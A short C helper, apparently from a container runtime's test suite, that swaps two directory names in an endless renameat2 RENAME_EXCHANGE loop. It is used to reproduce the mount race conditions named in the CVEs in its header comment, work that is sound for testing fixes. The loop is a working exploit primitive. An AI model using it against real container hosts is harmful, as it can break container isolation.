/*
 * Exchange two names of a directory for ever (CVE-2021-30465, CVE-2024-45310, CVE-2025-31133).
 *
 * exchange A B: renameat2(RENAME_EXCHANGE) until killed; a peer that shares a volume with the container being made.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <signal.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
			perror("renameat2");
			return 1;
		}
		usleep(20);
	}
}
